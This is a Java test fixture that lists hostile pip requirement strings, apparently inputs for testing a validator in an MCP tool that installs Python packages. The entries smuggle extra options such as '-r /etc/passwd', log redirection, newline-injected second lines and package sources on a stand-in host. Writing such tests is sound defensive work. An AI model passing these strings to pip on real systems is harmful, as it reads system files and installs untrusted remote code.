package dev.synapse.mcp.testing;

import java.util.List;

/** Requirement entries an attacker with the run role would hand to pip. */
public final class HostileRequirements {
  private HostileRequirements() {}

  /** What an attacker with the run role would hand to pip, each in its own list. */
  public static final List<String> ALL =
      List.of(
          "-r /etc/passwd",
          "--requirement=/etc/passwd",
          "--log /tmp/synapse-pwned.log",
          "-e git+https://example.invalid/x.git#egg=x",
          "git+https://example.invalid/x.git",
          "--index-url https://example.invalid/simple",
          "--extra-index-url=https://example.invalid/simple",
          "-i https://example.invalid/simple",
          "/etc/passwd",
          "./plugin",
          "../x",
          "https://example.invalid/x-1.0-py3-none-any.whl",
          "x @ https://example.invalid/x-1.0-py3-none-any.whl",
          "x @ file:///etc/passwd",
          "requests --log /tmp/synapse-pwned.log",
          "requests\n-r /etc/passwd",
          "requests\u202e",
          "",
          "x".repeat(201));
}
